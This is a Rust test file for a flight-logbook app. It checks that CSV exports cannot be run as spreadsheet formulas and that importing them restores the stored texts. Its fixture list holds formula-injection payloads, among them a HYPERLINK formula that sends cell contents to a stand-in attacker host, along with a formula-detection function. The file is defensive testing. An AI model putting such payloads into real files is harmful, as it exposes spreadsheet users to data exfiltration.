//! CSV files that are opened in a spreadsheet: no cell is run as a formula, and an import restores
//! all texts.

use crate::book::Book;
use crate::uploads::location;
use std::io::{Cursor, Read};
use zip::ZipArchive;

/// Comments of flights, some of which a spreadsheet would run as formulas.
const COMMENTS: [&str; 28] = [
    "=HYPERLINK(\"https://evil.example?\"&A1)",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=1",
    "''=1",
    "'quoted'",
    "-12.5",
    "+3,5",
    "-",
    "- first\n- second\n\n=third",
    "x;=1+1",
    "x;\"=1+1",
    "x;'=1+1",
    "a\t=1",
    "a\r\n=1",
    "\u{ff1d}1+1",
    "a\n\u{ff0b}1",
    "x; -5 degrees",
    "on 2024-05-01; wind -",
    "\"=1\"",
    "=\"a\"\"b\"",
    "a = b",
    "no-fly; really",
    "'",
    "-12.5 degrees",
    "comma, = and \"quotes\"",
];

/// Splits a CSV file into cells, as a reader of that separator does.
fn cells(csv: &str, separator: char) -> Vec<String> {
    let (mut cells, mut cell, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut chars = csv.chars().peekable();
    while let Some(char) = chars.next() {
        match char {
            '"' if is_quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' if is_quoted || cell.is_empty() => is_quoted = !is_quoted,
            '\r' | '\n' if !is_quoted => cells.push(std::mem::take(&mut cell)),
            char if char == separator && !is_quoted => cells.push(std::mem::take(&mut cell)),
            char => cell.push(char),
        }
    }
    cells.push(cell);
    cells
}

/// Returns whether a spreadsheet interprets a cell as a formula.
fn is_run(cell: &str) -> bool {
    let is_number = cell.strip_prefix(['-', '+']).is_some_and(|rest| {
        rest.starts_with(|first: char| first.is_ascii_digit())
            && rest.chars().all(|char| char.is_ascii_digit() || matches!(char, '.' | ','))
    });
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']) && !is_number
}

#[test]
fn no_cell_of_an_export_is_a_formula_and_an_import_restores_all_texts() {
    let book = Book::start();
    let (mut ann, mut bob) = (book.pilot("Ann"), book.pilot("Bob"));
    let quoted = |text: &str| format!("'{}'", text.replace('\'', "''"));
    let rows: String = COMMENTS
        .iter()
        .enumerate()
        .map(|(at, comment)| {
            let (number, name) = (at + 1, quoted(&comment.replace(['\r', '\n', '\t'], "_")));
            let comment = quoted(comment);
            format!(
                "insert into flightbook.gliders (pilot_id, manufacturer, model, comment) values (1, {name}, 'M', {comment});
                 insert into flightbook.sites (pilot_id, name, latitude, longitude, elevation_m, comment) values (1, {name}, -12.5, -0.25, -3, {comment});
                 insert into flightbook.flights (pilot_id, number, date, glider_id, launch_site_id, landing_site_id, comment, video_url)
                   select 1, {number}, '2024-07-01', g.id, s.id, s.id, {comment}, 'https://v.example/;=1'
                   from flightbook.gliders g, flightbook.sites s where g.comment = {comment} and s.comment = {comment};"
            )
        })
        .collect();
    book.database.execute(&rows);
    let page = ann.page("/flights.csv");
    let export = ann.get("/do/export.zip");
    let mut archive = ZipArchive::new(Cursor::new(&export.body)).unwrap();
    let mut file = |name: &str| {
        let mut text = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let (flights, gliders, sites) = (file("flights.csv"), file("gliders.csv"), file("sites.csv"));
    for (name, csv) in [("page", &page), ("flights", &flights), ("gliders", &gliders), ("sites", &sites)] {
        for separator in [',', ';', '\t'] {
            for cell in cells(csv, separator) {
                assert!(!is_run(&cell), "{name}, split at {separator:?}: {cell:?}");
            }
        }
    }
    // Numbers remain numbers, and so do texts that are numbers.
    assert!(sites.contains(",-3,-12.5,-0.25,"), "{sites}");
    assert!(cells(&flights, ',').iter().any(|cell| cell == "-12.5"), "{flights}");
    let kept = "select string_agg(f.number || '|' || f.comment || '|' || g.name || '|' || s.name || '|' || f.video_url, E'\\x01' order by f.number)
        from flightbook.flights f join flightbook.gliders g on g.id = f.glider_id join flightbook.sites s on s.id = f.launch_site_id
        where f.pilot_id = ";
    let expected = book.database.value(&format!("{kept} 1"));
    assert_eq!(expected.split('\u{1}').count(), COMMENTS.len());
    for csv in [page, flights] {
        assert_eq!(location(&bob.send_files("/import", "file", &[("f.csv", csv.as_bytes())])), "/import/preview");
        assert_eq!(location(&bob.submit("/import/preview", &[])), "/flights");
        assert_eq!(book.database.value(&format!("{kept} 2")), expected);
        book.database.execute("delete from flightbook.flights where pilot_id = 2");
    }
    // The API's own CSV is data for programs, and contains the stored texts.
    let plain = ann.ask("GET", "/api/flights?select=comment&number=eq.2", &[("accept", "text/csv")], b"");
    assert_eq!(plain.text(), "comment\n=1+1");
}
